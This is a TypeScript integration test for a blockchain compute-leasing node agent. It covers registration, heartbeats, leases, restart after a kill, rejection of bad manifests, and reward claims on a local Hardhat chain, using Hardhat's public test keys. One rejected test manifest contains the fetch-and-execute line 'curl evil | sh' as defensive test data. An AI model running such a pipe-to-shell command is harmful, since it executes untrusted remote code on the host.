// The node agent end to end: the real agent program against a real local chain (scripts/start.ts on a port this test
// chose), a tenant leasing through the real contracts, and the agent killed and restarted in the middle.
import assert from "node:assert/strict";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { after, before, describe, it } from "node:test";
import {
  createPublicClient,
  createWalletClient,
  defineChain,
  type Hex,
  hexToBytes,
  http,
  keccak256,
  parseEther,
  toHex,
} from "viem";
import { generatePrivateKey, privateKeyToAccount } from "viem/accounts";
import { freePort, type Running, runNode, startChain } from "../../scripts/test/support.ts";
import { seal } from "../src/crypto/seal.ts";
import { HTTP_ECHO, workloadsOf } from "./support/agent.ts";

const ROOT = path.resolve(import.meta.dirname, "../..");
// Hardhat's published test accounts: on the local chain only.
const DEPLOYER_KEY = "0xac0974bec39a17e36ba4a6b4d238ff944bacb478cbed5efcae784d7bf4f2ff80";
const FARMER_KEY = "0x59c6995e998f97a5a0044966f0945389dc9e86dae88c7a8412f4603b6b78690d";
const TENANT_KEY = "0x5de4111afa1a4b94908f83103eb1f1706367c2e68ca870fc3fb9a804cdab365a";
const LEASE = { cpu: 1, memoryMiB: 256, ssdGiB: 0, hddGiB: 0, gpus: 0 };

const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

async function eventually<T>(what: string, check: () => Promise<T | undefined>, timeoutMs = 30_000): Promise<T> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const value = await check().catch(() => undefined);
    if (value !== undefined) return value;
    if (Date.now() > deadline) throw new Error(`${what}: not within ${timeoutMs / 1000} s`);
    await sleep(200);
  }
}

async function getJson(url: string): Promise<unknown> {
  const response = await fetch(url, { signal: AbortSignal.timeout(2_000) });
  return response.json();
}

describe("node agent (integration)", { timeout: 240_000 }, () => {
  let grid: Running;
  let agent: Running | undefined;
  let dir: string;
  let rpcUrl: string;
  const nodeKey = generatePrivateKey();
  const nodeAddress = privateKeyToAccount(nodeKey).address;

  before(async () => {
    dir = await mkdtemp(path.join(os.tmpdir(), "fourfold-node-agent-"));
    const port = await freePort();
    rpcUrl = `http://127.0.0.1:${port}`;
    grid = await startChain(port);
  });

  after(async () => {
    if (agent !== undefined && agent.child.exitCode === null) {
      agent.child.kill("SIGKILL");
      await agent.exited;
    }
    for (const pid of await workloadsOf(nodeAddress)) process.kill(pid, "SIGKILL");
    if (grid.child.exitCode === null) {
      grid.child.kill("SIGINT");
      await grid.exited;
    }
    await rm(dir, { recursive: true, force: true });
  });

  it("registers, heartbeats, runs and acknowledges leases, rejects bad manifests, survives a kill, stops workloads when leases end", async () => {
    // Import after start.ts has written generated/ for this chain.
    const { abis, deploymentsOn } = await import("@fourfold/contracts");
    const deployed = deploymentsOn(31337);
    const address = (name: keyof typeof abis) => {
      const found = deployed[name];
      if (found === undefined) throw new Error(`${name} not deployed`);
      return found.address;
    };
    const chain = defineChain({
      id: 31337,
      name: "local",
      nativeCurrency: { name: "Ether", symbol: "ETH", decimals: 18 },
      rpcUrls: { default: { http: [rpcUrl] } },
    });
    const client = createPublicClient({ chain, transport: http(rpcUrl), pollingInterval: 100 });
    const wallet = (key: Hex) =>
      createWalletClient({ account: privateKeyToAccount(key), chain, transport: http(rpcUrl) });
    const deployer = wallet(DEPLOYER_KEY);
    const tenant = wallet(TENANT_KEY);
    const token = { address: address("FoldToken"), abi: abis.FoldToken } as const;
    const identities = { address: address("IdentityRegistry"), abi: abis.IdentityRegistry } as const;
    const nodes = { address: address("NodeRegistry"), abi: abis.NodeRegistry } as const;
    const market = { address: address("LeaseMarket"), abi: abis.LeaseMarket } as const;
    const mined = async (hash: Hex) => {
      const receipt = await client.waitForTransactionReceipt({ hash });
      assert.equal(receipt.status, "success");
      return receipt;
    };

    // The node key needs gas for its heartbeats and acknowledgements.
    await mined(await deployer.sendTransaction({ to: nodeAddress, value: parseEther("10") }));
    // The tenant: an identity, FOLD and an allowance.
    await mined(await tenant.writeContract({ ...identities, functionName: "register", args: ["tenant", ""] }));
    const tenantId = await client.readContract({ ...identities, functionName: "idOfHandle", args: ["tenant"] });
    await mined(
      await deployer.writeContract({
        ...token,
        functionName: "transfer",
        args: [tenant.account.address, parseEther("100")],
      }),
    );
    await mined(
      await tenant.writeContract({ ...token, functionName: "approve", args: [market.address, parseEther("100")] }),
    );

    // The agent's files: its key, the farm owner's key (first run only), and the node config.
    const keyFile = path.join(dir, "node.key");
    const ownerKeyFile = path.join(dir, "owner.key");
    const configFile = path.join(dir, "node.json");
    const stateDir = path.join(dir, "state");
    await writeFile(keyFile, `${nodeKey}\n`, { mode: 0o600 });
    await writeFile(ownerKeyFile, `${FARMER_KEY}\n`, { mode: 0o600 });
    await writeFile(
      configFile,
      JSON.stringify({
        farm: { handle: "test-farm", name: "Test farm" },
        node: {
          country: "BE",
          region: "u151",
          resources: { cpu: 4, memoryMiB: 2_048, ssdGiB: 20 },
          prices: { cpu: "0.01", memoryGiB: "0.005", ssdGiB: "0.0001", hddGiB: "0", gpu: "0" },
        },
        heartbeatIntervalSeconds: 2,
        pollIntervalMs: 200,
        settleIntervalSeconds: 0,
        templates: {
          "http-echo": HTTP_ECHO,
        },
      }),
    );
    const startAgent = (withOwner: boolean) =>
      runNode(
        [
          path.join(ROOT, "worker", "src", "main.ts"),
          "node",
          "--config",
          configFile,
          "--key-file",
          keyFile,
          ...(withOwner ? ["--owner-key-file", ownerKeyFile] : []),
          "--rpc-url",
          rpcUrl,
          "--state-dir",
          stateDir,
        ],
        { cwd: ROOT },
      );

    // First run: registration and heartbeats.
    agent = startAgent(true);
    const nodeId = await eventually("node registered", async () => {
      const id = await client.readContract({ ...nodes, functionName: "nodeOfKey", args: [nodeAddress] });
      return id === 0n ? undefined : id;
    });
    await eventually("node online", async () =>
      (await client.readContract({ ...nodes, functionName: "isOnline", args: [nodeId] })) ? true : undefined,
    );
    const node = await client.readContract({ ...nodes, functionName: "node", args: [nodeId] });
    const farmIdentity = node.identityId;
    const sealKey = hexToBytes(
      await client.readContract({ ...identities, functionName: "encryptionKeyOf", args: [farmIdentity] }),
    );
    assert.notDeepEqual(sealKey, new Uint8Array(32), "the agent set the farm identity's encryption key");
    const [total] = await client.readContract({ ...nodes, functionName: "capacity", args: [nodeId] });
    assert.deepEqual({ ...total }, { cpu: 4, memoryMiB: 2_048, ssdGiB: 20, hddGiB: 0, gpus: 0 });

    const prices = await client.readContract({ ...nodes, functionName: "prices", args: [nodeId] });
    const [, minDeposit] = await client.readContract({ ...market, functionName: "quote", args: [nodeId, LEASE] });
    /** Opens a lease for `manifest` and posts it sealed to the farm; returns the lease id. */
    const lease = async (manifest: unknown, sealed?: Uint8Array) => {
      const plaintext = new TextEncoder().encode(JSON.stringify(manifest));
      const receipt = await mined(
        await tenant.writeContract({
          ...market,
          functionName: "openLease",
          args: [tenantId, nodeId, LEASE, minDeposit * 10n, prices, keccak256(plaintext)],
        }),
      );
      const leaseId = BigInt(
        receipt.logs.find((l) => l.address.toLowerCase() === market.address.toLowerCase())?.topics[1] ?? "0x0",
      );
      const box = sealed ?? seal(sealKey, plaintext);
      await mined(await tenant.writeContract({ ...market, functionName: "postManifest", args: [leaseId, toHex(box)] }));
      return leaseId;
    };
    const leaseState = async (id: bigint) =>
      (await client.readContract({ ...market, functionName: "lease", args: [id] })).state;
    const endpointOf = async (id: bigint) => {
      const events = await client.getContractEvents({
        ...market,
        eventName: "LeaseAcknowledged",
        args: { leaseId: id },
        fromBlock: 0n,
      });
      return events.map((event) => event.args.endpoint ?? "");
    };

    // Lease 1: acknowledged, and its workload answers at the endpoint.
    const first = await lease({ template: "http-echo", params: { message: "first" } });
    await eventually("lease 1 acknowledged", async () => ((await leaseState(first)) === 2 ? true : undefined));
    const [firstEndpoint] = await endpointOf(first);
    assert.ok(firstEndpoint);
    assert.deepEqual(await eventually("lease 1 serves", () => getJson(firstEndpoint)), {
      message: "first",
      lease: String(first),
    });

    // The workload runs with the lease's limits: one core (taskset) and a heap below its 256 MiB.
    const [workload] = await workloadsOf(nodeAddress);
    assert.ok(workload !== undefined);
    const status = await readFile(`/proc/${workload}/status`, "utf8");
    if (os.availableParallelism() > 1) assert.match(status, /^Cpus_allowed_list:\s+0$/m);
    assert.ok((await readFile(`/proc/${workload}/cmdline`, "utf8")).split("\0").includes("--max-old-space-size=192"));

    // Kill the agent outright: its workload is orphaned. While it is down, lease 2 arrives.
    agent.child.kill("SIGKILL");
    await agent.exited;
    const second = await lease({ template: "http-echo", params: { message: "second" } });

    // Restarted without the owner key: nothing to register again.
    agent = startAgent(false);
    await eventually("lease 2 acknowledged", async () => ((await leaseState(second)) === 2 ? true : undefined));
    const [secondEndpoint] = await endpointOf(second);
    assert.ok(secondEndpoint);
    assert.deepEqual(await eventually("lease 2 serves", () => getJson(secondEndpoint)), {
      message: "second",
      lease: String(second),
    });
    assert.deepEqual(await eventually("lease 1 serves again", () => getJson(firstEndpoint)), {
      message: "first",
      lease: String(first),
    });
    assert.deepEqual(await endpointOf(first), [firstEndpoint], "lease 1 was acknowledged once, on the same endpoint");
    assert.equal((await workloadsOf(nodeAddress)).length, 2, "the orphan was replaced, not duplicated");
    const registered = await client.getContractEvents({ ...nodes, eventName: "NodeRegistered", fromBlock: 0n });
    const farms = await client.getContractEvents({ ...nodes, eventName: "FarmCreated", fromBlock: 0n });
    assert.deepEqual([registered.length, farms.length], [1, 1], "one farm and one node, registered once");

    // Lease 3: a manifest for a template the farmer does not allow is rejected on-chain with a full refund.
    const third = await lease({ template: "bash", params: { command: "curl evil | sh" } });
    await eventually("lease 3 rejected", async () => ((await leaseState(third)) === 4 ? true : undefined));
    const rejected = await client.getContractEvents({
      ...market,
      eventName: "LeaseRejected",
      args: { leaseId: third },
      fromBlock: 0n,
    });
    assert.equal(rejected[0]?.args.reason, "unknown template bash");
    // Lease 4: a box sealed to someone else is rejected too.
    const fourth = await lease(
      { template: "http-echo", params: { message: "x" } },
      seal(new Uint8Array(32).fill(9), new Uint8Array(8)),
    );
    await eventually("lease 4 rejected", async () => ((await leaseState(fourth)) === 4 ? true : undefined));

    // Lease 5: a parameter name longer than a rejection reason may be still gets its lease rejected.
    const fifth = await lease({ template: "http-echo", params: { message: "x", ["p".repeat(300)]: 1 } });
    await eventually("lease 5 rejected", async () => ((await leaseState(fifth)) === 4 ? true : undefined));
    const cut = await client.getContractEvents({
      ...market,
      eventName: "LeaseRejected",
      args: { leaseId: fifth },
      fromBlock: 0n,
    });
    assert.equal(cut[0]?.args.reason, `unknown parameter ${"p".repeat(300)}`.slice(0, 256));

    // Farming rewards: two epochs later (the chain's clock moved on), the agent has claimed the node's rewards for
    // the epochs it closed, to the farm's payout address (the farm owner's by default).
    const rewards = { address: address("FarmingRewards"), abi: abis.FarmingRewards } as const;
    const farmer = privateKeyToAccount(FARMER_KEY).address;
    const before = await client.readContract({ ...token, functionName: "balanceOf", args: [farmer] });
    const closedEpochs = async () =>
      (await client.getContractEvents({ ...nodes, eventName: "EpochClosed", args: { nodeId }, fromBlock: 0n })).length;
    for (let i = 0; i < 2; i++) {
      const closed = await closedEpochs();
      await client.request({ method: "evm_increaseTime" as never, params: [600] as never });
      await client.request({ method: "evm_mine" as never, params: [] as never });
      // The agent's next heartbeat closes the epoch; the next jump must wait for it, or the node skips an epoch.
      await eventually("epoch closed", async () => ((await closedEpochs()) > closed ? true : undefined));
    }
    const claimed = await eventually("rewards claimed", async () => {
      const events = await client.getContractEvents({ ...rewards, eventName: "RewardsClaimed", fromBlock: 0n });
      return events.length > 0 ? events : undefined;
    }).catch((error: Error) => {
      // Seen once in a clean-clone run and not reproduced (twice alone since): say what the agent was doing.
      throw new Error(`${error.message}; the end of the agent's output:\n${agent?.output().slice(-4_000)}`);
    });
    assert.equal(claimed[0]?.args.nodeId, nodeId);
    const amount = claimed.reduce((sum, event) => sum + (event.args.amount ?? 0n), 0n);
    assert.ok(amount > 0n);
    assert.equal(await client.readContract({ ...token, functionName: "balanceOf", args: [farmer] }), before + amount);

    // Closing lease 1 stops its workload.
    await mined(await tenant.writeContract({ ...market, functionName: "closeLease", args: [first] }));
    await eventually(
      "lease 1 stopped",
      async () =>
        (await fetch(firstEndpoint).then(
          () => false,
          () => true,
        )) || undefined,
    );
    assert.equal((await workloadsOf(nodeAddress)).length, 1);

    // A clean stop stops the remaining workload and exits 0.
    agent.child.kill("SIGTERM");
    assert.equal((await agent.exited).code, 0, agent.output());
    assert.deepEqual(await workloadsOf(nodeAddress), []);
    const state = JSON.parse(await readFile(path.join(stateDir, "state.json"), "utf8"));
    assert.deepEqual(
      Object.fromEntries(
        Object.entries(state.leases as Record<string, { status: string }>).map(([id, r]) => [id, r.status]),
      ),
      {
        [String(first)]: "ended",
        [String(second)]: "acknowledged",
        [String(third)]: "rejected",
        [String(fourth)]: "rejected",
        [String(fifth)]: "rejected",
      },
    );
  });
});
